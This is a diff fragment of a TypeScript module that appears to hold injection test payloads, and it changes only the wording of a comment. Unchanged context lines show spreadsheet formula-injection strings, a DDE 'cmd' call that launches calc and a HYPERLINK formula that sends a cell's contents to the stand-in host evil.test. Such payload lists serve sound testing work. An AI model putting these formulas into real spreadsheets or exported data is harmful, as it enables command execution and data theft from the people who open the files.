@@ -35,7 +35,7 @@ export const payloads: readonly string[] = scripts.flatMap((script) =>
   waysOut.map((out) => `${out}${script}`),
 );
 
-/** What a spreadsheet would reckon with, call or fetch. */
+/** What a spreadsheet would calculate, call or fetch. */
 export const formulas: readonly string[] = [
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://evil.test/?"&A1,"Error: click")',
